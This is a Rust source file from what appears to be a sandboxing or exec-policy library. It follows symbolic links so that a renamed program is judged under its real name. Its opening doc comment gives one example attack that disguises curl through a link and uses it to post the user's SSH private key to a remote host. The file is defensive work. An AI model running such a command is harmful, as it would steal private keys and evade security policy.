//! The program an exec will really run, when it goes by another name.
//!
//! The threat: policies name programs (`touch`, `curl`, `rm`), and a symbolic link is a free
//! new name. `ln -s /usr/bin/curl ./updater && ./updater -d @~/.ssh/id_rsa https://x` runs curl
//! while the command says `./updater`. The library is about to exec a file on disk, so it can
//! look at it: the path given (or, for the PATH-searching calls, the first executable PATH
//! yields) is followed through its chain of links to the file the kernel will load. When that
//! file's name differs from the one used, the call is decided a second time under the real name,
//! and the stricter decision holds (see `decide`).
//!
//! Only the last component's links are followed: a link among the directories changes where a
//! program lives, not its name, and rules that name a directory also see the path as written.
//! A copy under another name has no link to follow; what recognising copies by content would
//! cost is measured in docs/protection.md.

use core::ffi::c_char;

use crate::sys;
use crate::text::basename;

/// Longest path handled; a longer one is left to the name it was called by.
const PATH_MAX: usize = 4096;
/// Links followed before giving up (the kernel's own limit is 40).
const MAX_LINKS: usize = 40;

/// A path being resolved, NUL-terminated in a stack buffer.
pub struct Resolved {
    buf: [u8; PATH_MAX],
    len: usize,
}

impl Resolved {
    fn new() -> Resolved {
        Resolved {
            buf: [0; PATH_MAX],
            len: 0,
        }
    }

    pub fn as_bytes(&self) -> &[u8] {
        self.buf.get(..self.len).unwrap_or(&[])
    }

    fn c_ptr(&self) -> *const c_char {
        self.buf.as_ptr().cast()
    }

    /// Replaces the path with `parts` joined, NUL-terminated; false when it does not fit.
    fn set(&mut self, parts: &[&[u8]]) -> bool {
        let len: usize = parts.iter().map(|p| p.len()).sum();
        if len + 1 > PATH_MAX {
            return false;
        }
        let mut at = 0;
        for p in parts {
            if let Some(dst) = self.buf.get_mut(at..at + p.len()) {
                dst.copy_from_slice(p);
            }
            at += p.len();
        }
        if let Some(nul) = self.buf.get_mut(at) {
            *nul = 0;
        }
        self.len = at;
        true
    }
}

/// The file `path` runs, when its name differs from `path`'s. `search`: the call looks a bare
/// name up in `$PATH` (execvp and friends), `path_var` being that variable's value.
pub fn real_program(path: &[u8], search: bool, path_var: Option<&[u8]>) -> Option<Resolved> {
    let mut r = Resolved::new();
    if search && !path.contains(&b'/') {
        if !in_path(path, path_var?, &mut r) {
            return None;
        }
    } else if !r.set(&[path]) {
        return None;
    }
    let mut followed = false;
    let mut target = [0u8; PATH_MAX];
    for _ in 0..MAX_LINKS {
        // SAFETY: `r` is NUL-terminated; `target` holds PATH_MAX bytes.
        let n = unsafe { sys::readlink(r.c_ptr(), target.as_mut_ptr().cast(), PATH_MAX) };
        let Some(link) = usize::try_from(n).ok().and_then(|n| target.get(..n)) else {
            break;
        };
        followed = true;
        let ok = if link.first() == Some(&b'/') {
            r.set(&[link])
        } else {
            let current = r.as_bytes();
            let dir_len = current
                .iter()
                .rposition(|&b| b == b'/')
                .map_or(0, |i| i + 1);
            let mut dir = [0u8; PATH_MAX];
            let dir = match (dir.get_mut(..dir_len), current.get(..dir_len)) {
                (Some(d), Some(c)) => {
                    d.copy_from_slice(c);
                    &*d
                }
                _ => return None,
            };
            r.set(&[dir, link])
        };
        if !ok {
            return None;
        }
    }
    (followed && basename(r.as_bytes()) != basename(path)).then_some(r)
}

/// Sets `r` to the first executable `dir/name` of the `:`-separated `path_var`.
fn in_path(name: &[u8], path_var: &[u8], r: &mut Resolved) -> bool {
    for dir in path_var.split(|&b| b == b':') {
        let dir: &[u8] = if dir.is_empty() { b"." } else { dir };
        if r.set(&[dir, b"/", name]) {
            // SAFETY: `r` is NUL-terminated.
            if unsafe { sys::access(r.c_ptr(), libc::X_OK) } == 0 {
                return true;
            }
        }
    }
    false
}
